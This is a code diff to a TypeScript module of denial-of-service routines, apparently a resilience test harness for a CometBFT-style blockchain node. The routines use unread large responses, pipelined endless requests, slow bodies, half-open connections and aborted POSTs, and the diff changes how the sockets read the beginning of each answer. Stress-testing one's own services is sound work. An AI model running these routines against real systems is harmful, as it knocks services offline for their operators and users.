@@ -4,10 +4,12 @@ import {
   type Attack,
   call,
   cometSocketUrl,
+  connectSocket,
+  countBeginning,
   holdOpen,
   openGrpc,
-  openSocket,
-  openWebSocket,
+  openUnread,
+  readBeginning,
   repeat,
   send,
 } from './target.ts'
@@ -18,13 +20,14 @@ const LONG_ANSWER = '0x620fffff5ff3'
 const httpPost = (body: string): string =>
   `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`
 
-/** 300 HTTP clients request 25 MB each, twice, and never read. */
+/** 300 HTTP clients request 25 MB each, twice, and read nothing but the beginning. */
 export const unreadHttp: Attack = async (target) => {
   const request = httpPost(JSON.stringify(Array.from({ length: 12 }, (_, id) => callOf(LONG_ANSWER, id))))
   return (stop, count) =>
-    holdOpen(300, stop, count, () => {
-      const socket = openSocket(target, target.config.urls.jsonrpc)
-      socket.pause()
+    holdOpen(300, stop, count, async () => {
+      const socket = await connectSocket(target, target.config.urls.jsonrpc)
+      countBeginning(socket, count)
+      readBeginning(socket, { pause: () => socket.pause(), write: () => socket.write('\r\n') })
       // The second request waits until the answer to the first is taken.
       socket.write(request + request)
       return socket
@@ -36,8 +39,10 @@ export const pipelined: Attack = async (target) => {
   const first = httpPost(JSON.stringify(callOf(ENDLESS)))
   const more = Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(1000))
   return (stop, count) =>
-    holdOpen(20, stop, count, () => {
-      const socket = openSocket(target, target.config.urls.jsonrpc)
+    holdOpen(20, stop, count, async () => {
+      const socket = await connectSocket(target, target.config.urls.jsonrpc)
+      countBeginning(socket, count)
+      readBeginning(socket, { pause: () => socket.pause(), write: () => {} })
       socket.write(first)
       const sendMore = (): void => {
         // In the next turn of the event loop, which writes that end at once would keep from every other connection.
@@ -50,20 +55,18 @@ export const pipelined: Attack = async (target) => {
     })
 }
 
-/** 40 WebSocket clients request 200 MB each and never read. */
+/** 40 WebSocket clients request 200 MB each and read nothing but the beginning. */
 export const unreadWebSocket: Attack = async (target) => (stop, count) =>
   holdOpen(40, stop, count, async () => {
-    const socket = await openWebSocket(target, target.config.urls.ws)
-    socket.pause()
+    const socket = await openUnread(target, target.config.urls.ws, count)
     for (let id = 0; id < 100; id++) socket.send(JSON.stringify(callOf(LONG_ANSWER, id)))
     return socket
   })
 
-/** 40 clients of the CometBFT WebSocket subscribe to everything, request long answers and never read. */
+/** 40 clients of the CometBFT WebSocket subscribe to everything, request long answers and read nothing but the beginning. */
 export const unreadEvents: Attack = async (target) => (stop, count) =>
   holdOpen(40, stop, count, async () => {
-    const socket = await openWebSocket(target, cometSocketUrl(target))
-    socket.pause()
+    const socket = await openUnread(target, cometSocketUrl(target), count)
     for (const event of ['NewBlock', 'NewBlockEvents', 'Tx']) {
       socket.send(JSON.stringify(call('subscribe', { query: `tm.event='${event}'` }, event)))
     }
@@ -86,6 +89,8 @@ export const unreadGrpc: Attack = async (target) => (stop, count) =>
         te: 'trailers',
       })
       stream.on('error', () => {})
+      // Headers come without a window.
+      stream.once('response', ({ ':status': status }) => count(`status ${status}`))
       stream.end(EVERY_ACCOUNT)
     }
     return session
@@ -98,11 +103,11 @@ export const slowBodies: Attack = async (target) => {
   const most = Buffer.alloc(SLOW_BODY_BYTES - 1, 0x20)
   const head = `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n`
   return (stop, count) =>
-    holdOpen(200, stop, count, () => {
-      const socket = openSocket(target, target.config.urls.jsonrpc)
-      socket.resume()
+    holdOpen(200, stop, count, async () => {
+      const socket = await connectSocket(target, target.config.urls.jsonrpc)
+      countBeginning(socket, count)
       socket.write(head)
-      socket.write(most)
+      socket.write(most, (error) => error || count('taken'))
       return socket
     })
 }
@@ -112,11 +117,12 @@ export const halfOpen: Attack = async (target) => {
   const beginnings = ['', 'POST / HTTP/1.1\r\nHost: localhost\r\nX-', httpPost('{"id":1}').slice(0, -1)]
   let next = 0
   return (stop, count) =>
-    holdOpen(1500, stop, count, () => {
+    holdOpen(1500, stop, count, async () => {
       const { rest, jsonrpc, comet } = target.config.urls
-      const socket = openSocket(target, [rest, jsonrpc, comet][next % 3]!)
-      socket.resume()
-      socket.write(beginnings[Math.floor(next++ / 3) % 3]!)
+      const number = next++
+      const socket = await connectSocket(target, [rest, jsonrpc, comet][number % 3]!)
+      countBeginning(socket, count)
+      socket.write(beginnings[Math.floor(number / 3) % 3]!)
       return socket
     })
 }
@@ -126,9 +132,9 @@ export const abortedPosts: Attack = async (target) => {
   const half = httpPost(JSON.stringify(callOf(ENDLESS))).slice(0, -20)
   let next = 0
   return (stop, count) =>
-    repeat(4, stop, count, () => {
+    repeat(4, stop, count, async () => {
       const { rest, jsonrpc, comet } = target.config.urls
-      const socket = openSocket(target, [rest, jsonrpc, comet][next++ % 3]!)
+      const socket = await connectSocket(target, [rest, jsonrpc, comet][next++ % 3]!)
       return new Promise((resolve) => {
         socket.once('close', () => resolve('aborted'))
         socket.write(half, () => setTimeout(() => socket.resetAndDestroy(), 2))
